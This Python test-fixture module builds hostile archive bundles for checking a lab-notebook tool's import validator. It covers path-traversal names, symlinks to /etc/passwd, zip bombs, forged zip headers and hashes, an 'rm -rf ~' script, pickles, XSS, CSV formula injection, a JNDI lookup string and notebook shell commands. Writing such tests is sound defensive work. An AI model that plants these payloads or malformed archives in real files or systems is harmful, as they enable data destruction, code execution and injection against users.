"""Bundles that somebody built to do harm: a builder for each kind.

A builder takes the files of a good bundle and returns the bytes of a bad one. Where checksums would give it
away they are written anew, as somebody who means it would.
"""

import hashlib
import io
import json
import pickle
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from labkit.book.canonical import canonical, digest
from labkit.book.entry import entry_from_line, new_entry, new_id

Files = dict[str, bytes]
Builder = Callable[[Files], bytes]

ALL = 5
"""Entries of the good bundle."""
ENTRIES, SUMS = "entries.jsonl", "checksums.sha256"
SCRIPT = '<img src=x onerror="alert(1)"><script>alert(1)</script>'


@dataclass(frozen=True)
class Kind:
    """A kind of hostile bundle.

    `said` is what the check says of it; without it nothing is wrong with the bundle, and it must be harmless.
    `taken` is how many entries may come out of it into a book: None for none, because all of it is refused.
    """

    build: Builder
    said: str
    taken: int | None = None


KINDS: dict[str, Kind] = {}


def hostile(said: str, taken: int | None = None) -> Callable[[Builder], Builder]:
    def keep(build: Builder) -> Builder:
        KINDS[build.__name__] = Kind(build, said, taken)
        return build

    return keep


def zipped(files: Files | list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the same name twice
        for name, content in files.items() if isinstance(files, dict) else files:
            made.writestr(name, content)
    return out.getvalue()


def summed(files: Files) -> Files:
    """Return the files with checksums written anew."""
    sums = {name: hashlib.sha256(content).hexdigest() for name, content in files.items() if name != SUMS}
    lines = "".join(f"{sums[name]}  {name}\n" for name in sorted(sums))
    return {**files, SUMS: lines.encode()}


def with_files(files: Files, **changed: bytes) -> bytes:
    return zipped(summed(files | changed))


def lines_of(files: Files) -> list[bytes]:
    return files[ENTRIES].splitlines()


def with_lines(files: Files, lines: list[bytes]) -> bytes:
    return zipped(summed({**files, ENTRIES: b"".join(line + b"\n" for line in lines)}))


def more(files: Files, entry) -> bytes:
    return with_lines(files, [*lines_of(files), entry.line.encode()])


def forged(line: bytes, **changed) -> bytes:
    """Return a line with fields changed and its hash written anew."""
    fields = json.loads(line) | changed
    fields.pop("hash")
    return canonical(fields | {"hash": digest(canonical(fields))}).encode()


def renamed(files: Files, name: str, placed: str) -> bytes:
    """Return a bundle with one more file, whose name is written into the bytes of the zip."""
    content = zipped([*files.items(), (placed, b"harm")])
    assert len(placed.encode()) == len(name.encode())
    return content.replace(placed.encode(), name.encode())


def document(files: Files, name: str, change: Callable[[dict], dict]) -> bytes:
    return with_files(files, **{name: json.dumps(change(json.loads(files[name]))).encode()})


# Names


@hostile("no place in a bundle")
def climbs_out_of_the_folder(files):
    return with_files(files, **{"../../evil.jsonl": b"x"})


@hostile("no place in a bundle")
def names_a_place_of_the_system(files):
    return with_files(files, **{"/etc/cron.d/evil": b"x"})


@hostile("no place in a bundle")
def names_a_drive(files):
    return with_files(files, **{"C:\\Windows\\evil.dll": b"x"})


@hostile("no place in a bundle")
def climbs_with_backslashes(files):
    return with_files(files, **{"notebooks\\..\\..\\evil.ipynb": b"x"})


@hostile("no place in a bundle")
def climbs_inside_a_known_folder(files):
    return with_files(files, **{"notebooks/../evil.ipynb": b"x"})


@hostile("no place in a bundle")
def hides_behind_an_invisible_character(files):
    return renamed(files, "photos/x.py\0.png", "photos/x.py_.png")


@hostile("no place in a bundle")
def has_a_name_without_end(files):
    return with_files(files, **{"notebooks/" + "n" * 60_000 + ".ipynb": b"x"})


@hostile("no place in a bundle")
def has_a_name_of_a_program(files):
    return with_files(files, **{"run-me.sh": b"#!/bin/sh\nrm -rf ~\n"})


@hostile("no place in a bundle")
def brings_a_pickle(files):
    return with_files(files, **{"notebooks/model.pkl": pickle.dumps(print)})


@hostile("no place in a bundle")
def brings_a_module(files):
    return with_files(files, **{"labkit.py": b"print('harm')"})


@hostile("no place in a bundle")
def brings_a_folder(files):
    return zipped([*files.items(), ("photos/", b"")])


@hostile("stands there twice")
def has_the_same_name_twice(files):
    return zipped([*files.items(), (ENTRIES, files[ENTRIES])])


@hostile("stands there twice")
def has_a_name_that_another_system_takes_for_the_same(files):
    return zipped([*files.items(), ("notebooks/TOLD.ipynb", files["notebooks/told.ipynb"])])


# Links, locks and bombs


def of_type(files: Files, mode: int) -> bytes:
    info = zipfile.ZipInfo("notebooks/link.ipynb")
    info.external_attr = (mode | 0o777) << 16
    return zipped([*files.items(), (info, b"/etc/passwd")])


@hostile("a link or a device")
def brings_a_link(files):
    return of_type(files, stat.S_IFLNK)


@hostile("a link or a device")
def brings_a_pipe(files):
    return of_type(files, stat.S_IFIFO)


@hostile("a link or a device")
def brings_a_device(files):
    return of_type(files, stat.S_IFCHR)


@hostile("would unpack to no end")
def unpacks_to_no_end(files):
    return zipped({**files, ENTRIES: b"\0" * 300_000_000})


def declared(content: bytes, name: str, at: int, value: bytes) -> bytes:
    """Return a zip with a field of a file's line in the list at its end changed."""
    start = content.rindex(b"PK\x01\x02", 0, content.rindex(name.encode()))
    return content[: start + at] + value + content[start + at + len(value) :]


@hostile("lies on top of another")
def lays_files_on_top_of_one_another(files):
    content = zipped(files)
    first = struct.pack("<I", zipfile.ZipFile(io.BytesIO(content)).getinfo("READ-ME.txt").header_offset)
    size = struct.pack("<I", 2_000)
    return declared(declared(content, SUMS, 42, first), "READ-ME.txt", 20, size)


@hostile("more text than a lab has")
def says_that_it_is_larger_than_a_disk(files):
    return declared(zipped(files), ENTRIES, 24, struct.pack("<I", 4_294_000_000))


@hostile("damaged")
def says_that_it_is_smaller_than_it_is(files):
    return declared(zipped(files), ENTRIES, 24, struct.pack("<I", 10))


@hostile("more files than a lab has")
def says_that_it_has_millions_of_files(files):
    content = zipped(files)
    return content[:-10] + struct.pack("<I", 900_000_000) + content[-6:]


@hostile("locked with a password")
def is_locked(files):
    return declared(zipped(files), ENTRIES, 8, struct.pack("<H", 1))


@hostile("packed in a way that is not used")
def is_packed_otherwise(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return out.getvalue()


@hostile("cut short")
def is_cut_short(files):
    return zipped(files)[:-200]


@hostile("put behind it")
def has_something_behind_it(files):
    return zipped(files) + b"\x7fELF" + b"x" * 500


@hostile("no zip file")
def has_a_program_in_front(files):
    return b"MZ" + b"\0" * 500 + zipped(files)


@hostile("cut short")
def is_empty_inside(files):
    return zipped({})


@hostile("is missing in it")
def has_no_entries(files):
    return zipped({name: content for name, content in files.items() if name != ENTRIES})


@hostile("damaged")
def has_a_damaged_middle(files):
    content = bytearray(zipped(files))
    place = zipfile.ZipFile(io.BytesIO(bytes(content))).getinfo(ENTRIES).header_offset + 60
    content[place : place + 40] = b"\xff" * 40
    return bytes(content)


# Checksums


@hostile("its checksum is another", taken=ALL)
def has_a_wrong_checksum(files):
    return zipped({**files, "READ-ME.txt": b"Send money."})


@hostile("not among its checksums", taken=ALL)
def leaves_a_checksum_out(files):
    kept = [line for line in files[SUMS].splitlines() if b"READ-ME" not in line]
    return zipped({**files, SUMS: b"\n".join(kept) + b"\n"})


@hostile("but not in it", taken=ALL)
def has_a_checksum_of_a_file_elsewhere(files):
    return zipped({**files, SUMS: files[SUMS] + b"0" * 64 + b"  ../../etc/passwd\n"})


@hostile("is no checksum", taken=ALL)
def has_checksums_that_are_none(files):
    return zipped({**files, SUMS: b"\x00" * 5_000})


# Entries


@hostile("was altered after it was written", taken=ALL - 1)
def alters_an_entry(files):
    lines = lines_of(files)
    return with_lines(files, [lines[0].replace(b"12.5", b"99.5"), *lines[1:]])


@hostile("", taken=ALL)
def writes_another_history_under_new_hashes(files):
    """Nothing in it shows it; who has the first one knows (see the test of a clash)."""
    lines = lines_of(files)
    changed = forged(lines[0], payload={"grams": 99.5, "remark": "first"})
    return rebuilt(files, [changed, *lines[1:]])


@hostile("stands there twice", taken=ALL)
def has_an_entry_twice(files):
    return with_lines(files, [*lines_of(files), lines_of(files)[0]])


@hostile("not written as labkit writes", taken=ALL - 1)
def writes_an_entry_otherwise(files):
    lines = lines_of(files)
    return with_lines(files, [lines[0].replace(b'"grams":12.5', b'"grams":12.50'), *lines[1:]])


@hostile("nothing that labkit wrote", taken=ALL - 1)
def has_a_number_that_is_none(files):
    lines = lines_of(files)
    return with_lines(files, [lines[0].replace(b"12.5", b"NaN"), *lines[1:]])


@hostile("not written as labkit writes", taken=ALL - 1)
def says_a_field_twice(files):
    lines = lines_of(files)
    return with_lines(files, [lines[0].replace(b'{"hash"', b'{"kind":"a.b","hash"'), *lines[1:]])


@hostile("letters that labkit did not write", taken=ALL - 1)
def has_bytes_that_are_no_text(files):
    lines = lines_of(files)
    return with_lines(files, [lines[0].replace(b"first", b"\xff\xfe"), *lines[1:]])


@hostile("cannot be the trial of an entry", taken=ALL)
def has_a_trial_with_a_name_without_end(files):
    line = forged(lines_of(files)[-1], id=new_id(), trial="n" * 900_000)
    return with_lines(files, [*lines_of(files), line])


@hostile("nothing that labkit wrote", taken=ALL)
def has_a_name_of_10_mb(files):
    line = forged(lines_of(files)[-1], id=new_id(), trial="n" * 10_000_000)
    return with_lines(files, [*lines_of(files), line])


@hostile("nothing that labkit wrote", taken=ALL)
def has_a_line_of_10_mb(files):
    return with_lines(files, [*lines_of(files), b"x" * 10_000_000])


@hostile("at most 1000000 can be kept", taken=ALL)
def has_a_remark_of_2_mb(files):
    line = forged(lines_of(files)[-1], id=new_id(), payload={"remark": "n" * 2_000_000})
    return with_lines(files, [*lines_of(files), line])


@hostile("nothing that labkit wrote", taken=ALL)
def has_lists_without_end(files):
    return with_lines(files, [*lines_of(files), b'{"hash":' + b"[" * 200_000])


@hostile("in a circle", taken=ALL + 2)
def has_entries_that_replace_one_another(files):
    line = lines_of(files)[-1]
    one, two = sorted((new_id(), new_id()))
    pair = [forged(line, id=id, supersedes=[other]) for id, other in ((one, two), (two, one))]
    return with_lines(files, [*lines_of(files), *pair])


@hostile("replaces an entry that is not in it", taken=ALL + 1)
def leaves_the_first_version_out(files):
    line = forged(lines_of(files)[-1], id=new_id(), supersedes=[new_id()])
    return with_lines(files, [*lines_of(files), line])


@hostile("does not say what it withdraws", taken=ALL)
def withdraws_nothing(files):
    line = forged(
        lines_of(files)[-1], id=new_id(), kind="book.withdrawal", payload={"reason": ""}, supersedes=[]
    )
    return with_lines(files, [*lines_of(files), line])


@hostile("cannot be the maker of an entry", taken=ALL)
def has_a_name_for_a_maker(files):
    line = forged(lines_of(files)[-1], id=new_id(), maker="Somebody")
    return with_lines(files, [*lines_of(files), line])


@hostile("written by a newer labkit", taken=ALL)
def says_that_it_is_newer(files):
    return more(files, new_entry("kiln.firing", "Invented trial", {}, maker_of(files), schema=99))


@hostile("at most 150 °C", taken=ALL)
def has_figures_that_cannot_be(files):
    return more(
        files, new_entry("kiln.firing", "Invented trial", {"hottest_c": 9e9}, maker_of(files), schema=2)
    )


@hostile("entries, and", taken=ALL - 1)
def leaves_an_entry_out(files):
    return with_lines(files, lines_of(files)[:-1])


def maker_of(files: Files) -> str:
    return json.loads(lines_of(files)[0])["maker"]


# Photos


def with_photo(files: Files, content: bytes, name: str = "") -> bytes:
    """Return a bundle with a photo that an entry names."""
    name = name or f"{hashlib.sha256(content).hexdigest()}.png"
    entry = new_entry("attic.box", "Invented trial", {"photo": name}, maker_of(files))
    lines = [*lines_of(files), entry.line.encode()]
    text = b"".join(line + b"\n" for line in lines)
    return zipped(summed({**files, ENTRIES: text, f"photos/{name}": content}))


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


@hostile("was altered", taken=ALL + 1)
def has_a_photo_of_another_name(files):
    return with_photo(files, png(4, 4), "0" * 64 + ".png")


@hostile("not a photo that can be read", taken=ALL + 1)
def has_a_pickle_for_a_photo(files):
    return with_photo(files, pickle.dumps(print))


@hostile("not a photo that can be read", taken=ALL + 1)
def has_a_drawing_with_a_script_for_a_photo(files):
    return with_photo(files, b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')


@hostile("million pixels", taken=ALL + 1)
def has_a_photo_that_unpacks_to_no_end(files):
    return with_photo(files, png(60_000, 60_000))


@hostile("belongs to no entry", taken=ALL)
def hides_a_photo(files):
    content = png(4, 4)
    return with_files(files, **{f"photos/{hashlib.sha256(content).hexdigest()}.png": content})


# Documents and tables


@hostile("cannot be read", taken=ALL)
def has_a_document_without_end(files):
    return with_files(files, **{"versions.json": b"[" * 500_000})


@hostile("not what labkit writes", taken=ALL)
def has_a_document_that_is_a_list(files):
    return with_files(files, **{"datapackage.json": b"[1, 2, 3]"})


@hostile("made by a newer labkit", taken=ALL)
def says_that_the_bundle_is_newer(files):
    return document(files, "versions.json", lambda it: it | {"format": 99})


@hostile("does not say which trials", taken=ALL)
def has_numbers_for_names(files):
    return document(files, "versions.json", lambda it: it | {"trials": [{"a": 1}], "maker": 7})


@hostile("No entry of the trial", taken=ALL)
def tells_of_a_trial_that_is_not_in_it(files):
    return document(files, "versions.json", lambda it: it | {"trials": [SCRIPT]})


@hostile("but not in both", taken=ALL)
def describes_files_elsewhere(files):
    change = {"resources": [{"path": "../../etc/passwd", "schema": {"fields": []}}]}
    return document(files, "datapackage.json", lambda it: it | change)


@hostile("no table of a lab", taken=ALL)
def describes_what_is_no_table(files):
    return document(files, "datapackage.json", lambda it: it | {"resources": ["file:///etc/passwd"]})


@hostile("but not in both", taken=ALL)
def has_a_crate_that_tells_of_nothing(files):
    return document(files, "ro-crate-metadata.json", lambda it: {"@graph": "http://example.org/evil"})


@hostile("not what this labkit makes of the entries", taken=ALL)
def puts_a_formula_into_a_table(files):
    table = files["tables/attic.box.csv"].replace(b"with a picture", b'=HYPERLINK(""http://x"")')
    return with_files(files, **{"tables/attic.box.csv": table})


@hostile("its columns are not those", taken=ALL)
def has_other_columns(files):
    table = files["tables/attic.box.csv"].replace(b"grams", b"pounds")
    return with_files(files, **{"tables/attic.box.csv": table})


@hostile("which is no", taken=ALL)
def has_a_word_for_a_number(files):
    table = files["tables/attic.box.csv"].replace(b"false", b"maybe")
    return with_files(files, **{"tables/attic.box.csv": table})


# Notebooks


@hostile("is no notebook", taken=ALL)
def has_a_notebook_that_is_none(files):
    return with_files(files, **{"notebooks/told.ipynb": b"import os"})


@hostile("no notebook of format 4", taken=ALL)
def has_cells_that_are_none(files):
    return with_files(files, **{"notebooks/told.ipynb": b'{"nbformat": 4, "cells": [7]}'})


@hostile("", taken=ALL)
def names_another_kernel_in_a_notebook(files):
    """Read by nothing: a rerun takes the kernel of this Python, and only when it is asked for."""
    evil = {
        "kernelspec": {"name": "evil", "display_name": SCRIPT, "argv": ["sh", "-c", "touch harm"]},
        "widgets": {"state": {"x": {"state": {"value": SCRIPT}}}},
        "init_cell": "import os; os.system('touch harm')",
    }
    return document(files, "notebooks/told.ipynb", lambda it: it | {"metadata": evil})


@hostile("", taken=ALL)
def has_a_script_in_the_results(files):
    """Shown by nothing here."""

    def change(it: dict) -> dict:
        it["cells"][0]["outputs"].append(
            {
                "output_type": "display_data",
                "metadata": {},
                "data": {"text/html": SCRIPT, "application/javascript": "alert(1)"},
            }
        )
        return it

    return document(files, "notebooks/told.ipynb", change)


@hostile("", taken=ALL + 1)
def has_scripts_and_formulas_in_every_text(files):
    """Kept as the texts that they are."""
    payload = {SCRIPT: SCRIPT, "=1+1": "=cmd|' /C calc'!A0", "remark": "{{7*7}}${jndi:ldap://x}%n"}
    entry = new_entry("attic.box", "Invented trial", payload, maker_of(files))
    return rebuilt(files, [*lines_of(files), entry.line.encode()])


def rebuilt(files: Files, lines: list[bytes]) -> bytes:
    """Return a bundle that labkit itself could have written of these entries."""
    from labkit.share.crate import crate, package
    from labkit.share.tables import tables_of

    entries = [entry_from_line(line.decode()) for line in lines]
    tables = tables_of(entries)
    made = {**files, ENTRIES: b"".join(line + b"\n" for line in lines)}
    made |= {f"tables/{each.kind}.csv": each.content for each in tables}
    listed = json.loads(files["versions.json"]) | {"entries": len(entries)}
    made["versions.json"] = json.dumps(listed).encode()
    sums = {name: hashlib.sha256(content).hexdigest() for name, content in made.items()}
    sizes = {name: len(content) for name, content in made.items()}
    made["datapackage.json"] = json.dumps(package(tables, sums, sizes, "2026-01-01")).encode()
    described = {name: size for name, size in sizes.items() if name not in (SUMS, "ro-crate-metadata.json")}
    told = crate(described, "2026-01-01", ["Invented trial"], {}, {})
    made["ro-crate-metadata.json"] = json.dumps(told).encode()
    return zipped(summed(made))
